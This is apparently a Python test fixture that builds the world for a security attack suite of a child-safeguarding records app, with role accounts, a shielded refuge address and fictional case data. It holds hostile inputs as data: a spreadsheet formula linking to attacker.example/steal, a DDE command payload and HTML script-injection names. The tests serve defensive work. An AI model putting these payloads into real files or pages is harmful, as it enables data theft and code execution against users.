"""The world the attack suite attacks: the small partnership the tests share
(tests.fixtures.partnership: a baby known to maternity, health visiting and children's social
care, on a child protection plan led by SW1, with a father known to the police), grown by what
each attack needs, and an account for every role an attacker might hold.

- the mother's refuge address (a residence of her maternity record) is shielded, and a health
  visitor's referral names it in its free text;
- an Early Help service whose name is a spreadsheet formula, with a referral about the baby, so
  that the chronology's CSV carries a formula in a column other than the two it neutralised;
- a police record of a man whose name is HTML, for the subject-access report;
- alerts (one owned by the social worker, one escalated to a safeguarding lead, one routed to
  the MASH team), the lawful basis recorded for those who see the household, a serious incident
  notification (so that the baby has a chronology) and a thematic review with a case and an
  excerpt.

Everything here is written in the test process and committed before the server starts; "now"
is the shared partnership's Friday 11 July 2025, in this process and in the server's."""

from __future__ import annotations

import importlib
import secrets
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password

from seen.access import services
from seen.access.models import Role, Shield, StaffProfile
from seen.access.policy import Action, ChildRef, Level, decide
from seen.areas.models import Agency, Practitioner
from seen.core import clock
from seen.incidents.models import Incident
from seen.ingest.loader import ingest_extract
from seen.linkage import decisions
from seen.linkage.models import ClericalDecision
from seen.people.models import Person, SourceRecord
from seen.rules.models import Alert
from seen.thematic import coding, reviews
from seen.thematic.models import Review
from tests.fixtures.casefile import alert_about
from tests.fixtures.partnership import NOW, partnership_tables, write_extract

BABY_NHS_NUMBER = "9991000003"
PASSWORD = "attack-suite-" + secrets.token_urlsafe(18)

# The refuge: a shielded address of the mother's, and what a referral's free text says of it.
REFUGE_LINE = "14 Larch Row"
REFUGE_POSTCODE = "QA1 9ZZ"
REFUGE_TEXT = f"Mother and baby moved to the refuge at {REFUGE_LINE}, {REFUGE_POSTCODE}."
# the mother's other address, shielded too (named in no free text: only clearance shows it)
SHIELDED_ADDRESS = "QA1 2BC"
# what an uncleared viewer must never be shown
SHIELDED_VALUES = (REFUGE_LINE, REFUGE_POSTCODE, SHIELDED_ADDRESS)

# Cells a spreadsheet would run: an agency's name and a referral's reason, as an agency sent them.
FORMULA_AGENCY = '=HYPERLINK("http://attacker.example/steal","Quarry Vale Early Help")'
FORMULA_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"

# A man whose name, as the police sent it, is HTML.
HTML_FORENAME = "<img src=x onerror=alert(1)>"
HTML_SURNAME = "<script>alert(2)</script>"

# Personal data of the family: an unauthorised answer must carry none of it.
PERSONAL_DATA = (
    "Hollis",
    "Tanner",
    "Taner",
    "9990000018",
    "1999-04-03",
    "1995-11-02",
    "QB1 4XY",
    *SHIELDED_VALUES,
)


@dataclass(frozen=True)
class Account:
    """Who signs in for an attack: a role, and the practitioner (caseload) or agency."""

    username: str
    role: str
    practitioner: str = ""  # local id of the practitioner record (carries the caseload)
    agency: str = ""  # when not a practitioner
    cleared: bool = False  # shielding clearance
    staff: bool = False  # Django's admin door


ACCOUNTS: dict[str, Account] = {
    a.username: a
    for a in (
        Account("midwife", Role.MIDWIFE, "MW1"),  # no relationship with the baby
        Account("midwife-glass", Role.MIDWIFE, "MW2"),  # breaks glass (finding 10)
        Account("midwife-sweep", Role.MIDWIFE, agency="QAV-MAT"),  # the NUL sweep's break glass
        Account("health-visitor", Role.HEALTH_VISITOR, "HV1"),  # the baby on her caseload
        Account("social-worker", Role.SOCIAL_WORKER, "SW1"),  # the plan's lead, not cleared
        Account("social-worker-cleared", Role.SOCIAL_WORKER, "SW2", cleared=True),
        # the one the rogue administrator grants shielding clearance (finding 4)
        Account("social-worker-accomplice", Role.SOCIAL_WORKER, "SW3"),
        Account("lead-unrelated", Role.SAFEGUARDING_LEAD, "SL1"),  # no relationship
        Account("lead", Role.SAFEGUARDING_LEAD, "SL2"),  # an alert escalated to her
        Account("ed-clinician", Role.ED_CLINICIAN, "ED1"),
        Account("mash", Role.MASH_PRACTITIONER, "MA1"),  # a contact under triage
        Account("agency-system", Role.AGENCY_SYSTEM, agency="QAV-MAT"),
        Account("admin", Role.SYSTEM_ADMINISTRATOR, agency="QAV-CSC", staff=True),
        Account("admin-rogue", Role.SYSTEM_ADMINISTRATOR, agency="QAV-CSC", staff=True),
        Account("dpo", Role.DATA_PROTECTION_OFFICER, agency="QAV-CSC"),
        Account("reviewer", Role.REVIEWER, agency="QAV-CSC"),
        Account("strategic", Role.STRATEGIC_LEADER, agency="QAV-CSC"),
    )
}

# those who see the baby's household (a relationship, and the lawful basis recorded)
HOUSEHOLD_ACCOUNTS = (
    "social-worker", "social-worker-cleared", "social-worker-accomplice", "lead", "mash"
)


@dataclass
class World:
    baby: str  # the baby's reference (P…)
    mother: str
    father: str
    html_man: str  # the man whose name is HTML
    users: dict[str, int] = field(default_factory=dict)  # username -> user id
    alert: int = 0  # owned by the social worker
    alert_for_steps: int = 0  # another, for the explicit NUL attacks on alert steps
    incident: int = 0
    review: int = 0
    case: int = 0
    excerpt: int = 0
    decision: int = 0  # a clerical identity decision


def tables() -> dict[str, list[dict[str, str]]]:
    t = partnership_tables()
    for row in t["people"]:
        if row["id"] == "B1":  # the baby's NHS number, for "Check a child"
            row["nhs_number"] = BABY_NHS_NUMBER
    t["agencies"] += [
        {"code": "QAV-EH", "name": FORMULA_AGENCY, "kind": "early_help", "area": "QAV"},
    ]
    t["practitioners"] += [
        {"agency": "QAV-MAT", "id": "MW2", "name": "Mia Midwife", "role": "midwife"},
        {"agency": "QAV-CSC", "id": "SL2", "name": "Sue Lead", "role": "safeguarding_lead"},
        {"agency": "QAV-CSC", "id": "SW3", "name": "Ali Worker", "role": "social_worker"},
    ]
    t["people"] += [
        {"agency": "QAV-EH", "id": "EB1", "forename": "Leo", "surname": "Hollis",
         "dob": "2025-06-01", "sex": "male"},
        {"agency": "POL", "id": "P88", "forename": HTML_FORENAME, "surname": HTML_SURNAME,
         "dob": "1990-01-01", "sex": "male"},
    ]
    t["residences"] += [
        {"agency": "QAV-MAT", "id": "A3", "person": "M1", "address": REFUGE_LINE,
         "postcode": REFUGE_POSTCODE, "start": "2025-06-20"},
    ]
    t["responsibilities"] += [
        {"agency": "QAV-CSC", "id": "RS2", "child": "CB1", "practitioner": "SW2",
         "role": "social_worker", "start": "2025-06-20"},
        {"agency": "QAV-CSC", "id": "RS3", "child": "CB1", "practitioner": "SW3",
         "role": "social_worker", "start": "2025-06-20"},
    ]
    t["referrals"] = [
        {"agency": "QAV-HV", "id": "RF1", "date": "2025-06-25", "child": "HB1",
         "kind": "childrens_social_care", "to_agency": "QAV-CSC", "reason": REFUGE_TEXT},
        {"agency": "QAV-EH", "id": "RF2", "date": "2025-06-26", "child": "EB1",
         "kind": "childrens_social_care", "to_agency": "QAV-CSC", "reason": FORMULA_REASON},
    ]
    return t


def _person(local_id: str) -> Person:
    person = SourceRecord.objects.get(local_id=local_id).person
    assert person is not None, f"record {local_id} has no person"
    return person


def _account(account: Account, password_hash: str) -> Any:
    user = get_user_model().objects.create_user(
        account.username,
        first_name=account.username.split("-")[0].title(),
        last_name="Tester",
        is_staff=account.staff,
    )
    user.password = password_hash  # one Argon2 hash for every account: each costs a moment
    user.save(update_fields=["password"])
    worker = (
        Practitioner.objects.get(local_id=account.practitioner) if account.practitioner else None
    )
    agency = worker.agency if worker else Agency.objects.get(code=account.agency)
    StaffProfile.objects.create(
        user=user,
        role=account.role,
        practitioner=worker,
        agency=agency,
        shielding_clearance=account.cleared,
    )
    if account.role == Role.SYSTEM_ADMINISTRATOR:
        # the administrator's permissions, as `seen demo-users` grants them
        demo_users = importlib.import_module("seen.access.management.commands.demo-users")
        user.groups.add(demo_users.admin_group())
    return get_user_model().objects.select_related("staff_profile").get(pk=user.pk)


def build(folder: Path) -> World:
    """Write the world into the (empty) test database and commit it."""
    clock.set_now(NOW)
    try:
        return _build(folder)
    finally:
        clock.set_now(None)


def _build(folder: Path) -> World:
    ingest_extract(write_extract(folder / "extract", tables(), extract_id="attack-world"))
    records = SourceRecord.objects.order_by("pk")
    for a, b, why in (
        ("B1", "HB1", "same baby"),
        ("B1", "CB1", "same baby"),
        ("B1", "EB1", "same baby"),
        ("F1", "P77", "same man"),
    ):
        decisions.confirm(*records.filter(local_id__in=[a, b]), user=None, reason=why)
    baby = _person("B1")
    password_hash = make_password(PASSWORD)
    users = {name: _account(account, password_hash) for name, account in ACCOUNTS.items()}

    Shield.objects.create(
        record=SourceRecord.objects.get(local_id="M1"),
        scope=Shield.Scope.ADDRESS,
        reason=Shield.Reason.REFUGE,
        created_at=NOW,
    )
    alert = alert_about(baby, owner="SW1")
    steps = alert_about(baby, owner="SW1", anchor="C1-steps")
    escalated = alert_about(baby, owner="SW1", anchor="C1-escalated")
    escalated.escalated_at = NOW
    escalated.escalated_to = Practitioner.objects.get(local_id="SL2")
    escalated.save()
    Alert.objects.create(
        rule_id="domestic-abuse-checks",
        rule_version=1,
        key=f"{baby.pk}:mash",
        child_key=f"child:{baby.pk}",
        child=baby,
        explanation="A police incident of domestic abuse with the baby present.",
        severity="high",
        raised_at=NOW,
        deadline=NOW + timedelta(days=1),
        owner_agency=Agency.objects.get(code="QAV-CSC"),
        owner_role=Role.MASH_PRACTITIONER,
        routed_because="the MASH team",
    )
    for name in HOUSEHOLD_ACCOUNTS:
        services.record_basis(users[name], baby, "direct_care", "consent")

    incident = Incident.objects.create(
        child=baby,
        occurred_on=date(2025, 7, 5),
        learned_on=date(2025, 7, 7),
        description="The baby was taken to hospital with a head injury.",
        recorded_at=NOW,
        recorded_by=users["lead"],
        recorded_by_name="Sue Lead",
    )
    reviewer = users["reviewer"]
    review = reviews.create_review(
        reviewer, "review", title="Babies and the men around them", kind=Review.Kind.LOCAL_RAPID
    )
    area = reviews.add_area(reviewer, "review", review, "area 01")
    case = reviews.add_case(
        reviewer, "review", review, case_id="rr-1", area=str(area.pk), reason="head injury"
    )
    excerpt = coding.add_excerpt(reviewer, "review", case, "The father was not seen at visits.")

    world = World(
        baby=baby.reference,
        mother=_person("M1").reference,
        father=_person("F1").reference,
        html_man=_person("P88").reference,
        users={name: user.pk for name, user in users.items()},
        alert=alert.pk,
        alert_for_steps=steps.pk,
        incident=incident.pk,
        review=review.pk,
        case=case.pk,
        excerpt=excerpt.pk,
        decision=ClericalDecision.objects.order_by("pk").values_list("pk", flat=True)[0],
    )
    _check(world, users)
    return world


def _check(world: World, users: dict[str, Any]) -> None:
    """The world is what the attacks assume: who has a relationship and who has none."""
    child = ChildRef(person=Person.objects.get(reference=world.baby).pk)

    def view(name: str, purpose: str = "direct_care") -> Any:
        return decide(users[name], Action.VIEW_CHILD, purpose, child)

    for name in ("midwife", "midwife-glass", "midwife-sweep", "lead-unrelated"):
        assert not view(name).allowed, f"{name} should have no relationship with the baby"
    assert view("health-visitor").level == Level.FLAG
    for name in HOUSEHOLD_ACCOUNTS:
        assert view(name).level == Level.HOUSEHOLD, f"{name} should see the household"
    assert view("ed-clinician", "unscheduled_care").allowed
